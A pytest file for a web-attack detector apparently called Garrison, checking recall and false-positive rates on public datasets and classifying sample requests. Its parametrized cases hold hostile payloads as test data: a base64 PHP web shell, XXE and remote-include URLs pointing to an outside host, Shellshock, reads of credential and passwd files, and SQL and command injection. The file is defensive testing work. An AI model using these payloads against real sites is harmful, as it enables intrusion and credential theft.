"""Garrison's web-attack detector on labelled public data (HttpParams, CSIC 2010) and through the pipeline."""

from __future__ import annotations

import pytest

from garrison.evaluate.suites import csic, httpparams
from garrison.model import RawRecord
from tests.conftest import DATA


def test_httpparams_detection_and_false_positives():
    """HttpParams: every labelled attack value, and every normal one."""
    rows = {r.cls: r for r in httpparams(DATA)}
    normal = rows["normal values"]
    assert normal.negatives > 19_000 and normal.fp_rate <= 0.005, normal
    for cls in ("sqli", "xss", "rce"):
        assert rows[cls].recall >= 0.90, rows[cls]


def test_csic2010_normal_quiet_and_attacks_found():
    """CSIC's 'anomalous' set mixes injections with mere parameter tampering; injections must be caught,
    normal traffic must stay quiet."""
    (row,) = csic(DATA)
    assert row.negatives == 36_000 and row.fp_rate <= 0.001
    assert row.positives == 25_065 and row.recall >= 0.15


def test_detections_from_access_logs_through_the_pipeline(tmp_path):
    from garrison.config import load_config
    from garrison.detect.detectors.web import web_attack_stage
    from garrison.pipeline import build_pipeline

    pipe = build_pipeline(load_config(None, data_dir=str(tmp_path), enrich={"geoip": False}), [web_attack_stage])
    lines = (DATA / "crowdsec-hub/tests/nginx-http-sqli-probing/nginx-http-sqli-probing.log").read_text().splitlines()
    batch = pipe.process([RawRecord(text=x, source="t", position=i) for i, x in enumerate(lines, 1)])
    sqli = [d for d in batch.detections if d.rule_id == "garrison.web.sqli"]
    assert sqli and all(d.event["source.ip"] == "127.0.0.1" for d in sqli)
    assert "attack.t1190" in sqli[0].tags
    # refused probes are failed attempts (medium); answered ones may have worked (high)
    for d in sqli:
        assert d.level == ("medium" if d.event["http.response.status_code"] >= 400 else "high")
    from garrison.detect.detectors.web import level_for
    assert level_for(200) == level_for(None) == "high" and level_for(404) == "medium"


def test_crs_regression_tests_per_class():
    """OWASP CRS's regression requests: detection per class, at CRS's default paranoia level and at all levels,
    and the near-misses CRS's authors call benign. The floors are the figures reached, so a change that loses
    detections fails here."""
    from garrison.evaluate.suites import crs

    rows = {r.cls: r for r in crs(DATA)}
    floors = {"lfi": 0.95, "xss": 0.90, "java": 0.90, "php": 0.88, "rce": 0.75, "sqli": 0.70, "rfi": 0.60,
              "sqli, CRS paranoia 1": 0.95, "rce, CRS paranoia 1": 0.90, "php, CRS paranoia 1": 0.95,
              "rfi, CRS paranoia 1": 1.0}
    for cls, floor in floors.items():
        assert rows[cls].positives > 10 and rows[cls].recall >= floor, rows[cls]
    for cls in ("sqli", "xss", "rce", "php"):
        benign = rows[f"{cls}, benign near-misses"]
        assert benign.negatives > 40 and benign.fp_rate <= 0.09, benign


@pytest.mark.parametrize("parts, cls", [
    ({"body": "test=cHJvY2Vzc2J1aWxkZXI"}, "java"),  # base64 of 'processbuilder', cut out of a longer encoding
    ({"cookie": "x=PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="}, "php"),  # base64 of a PHP web shell
    ({"h:x-filename": "shell.php5..."}, "php"),  # a script uploaded under a disguised name
    ({"h:x-file-name": "cmd.jspx"}, "java"),
    ({"body": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://203.0.113.9/x.dtd">%x;]><r/>'}, "xss"),
    ({"body": "message=hello%0d%0aRCPT TO:<victim@example.org>"}, "rce"),  # SMTP injection through a contact form
    ({"query": "f=FOR /F \"delims=\" %G IN ('SET') DO @Echo %G"}, "rce"),
    ({"query": "u_id[$ne]=2"}, "sqli"),  # MongoDB operator injection
    ({"query": "id=password::int"}, "sqli"),
    ({"query": "id=1 AND group_concat(table_name)"}, "sqli"),
    ({"body": "a=ja&Tab;vascript:alert(1)"}, "xss"),
    ({"body": "a=document/*x*/./*y*/cookie"}, "xss"),
    ({"query": "page=/.aws/credentials"}, "lfi"),
    ({"query": "x=jar:http://203.0.113.9/b.zip!/a"}, "rfi"),
    ({"query": "cmd=time sh -c whoami"}, "rce"),
    ({"query": "f=/etc/[p]asswd"}, "rce"),  # a shell glob in place of a file name
    ({"h:user-agent": "() { :; }; /bin/bash -c 'id'"}, "rce"),  # Shellshock
    ({"h:x-filename": "wp-config.php"}, "rce"),  # a configuration file uploaded over the site's own
    ({"query": "x=$_aB_4c #c\r\n[5]//d\r\n['d'] (17)"}, "php"),  # comments between a variable function and its call
    ({"query": "i=2147483648"}, "sqli"),  # integer-overflow probe
    ({"body": "email=admin@example.org';"}, "sqli"),  # the query ended early: a login bypass
])
def test_encoded_and_less_common_attacks(parts, cls):
    from garrison.detect.detectors.web import classify

    assert cls in {f.cls for f in classify(parts)}


@pytest.mark.parametrize("text", [
    "payload=Left (WA, RR), following wood edge", "climbing to an altitude of convert (0.46 miles) before",
    "Werke von Haßelt (1599)", 'arg=Die "Union von Europa"', "note=Go to store.\nAt the store, shop.",
    'xml=<?xml version="1.0" encoding="UTF-8"?><order><id>1</id></order>', "name=Del Barrio&city=Madrid",
    "token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    "q=cat pictures&page=2", "extension=4821&name=Jo", "text=Moreover, phpinfo can leak settings",
    "pattern=/[a-z]{1,5}/", "q=opening times (weekdays)", "comment=see section 3 (b) and (c)",
])
def test_ordinary_text_stays_quiet(text):
    from garrison.detect.detectors.web import classify

    assert classify({"body": text}) == []
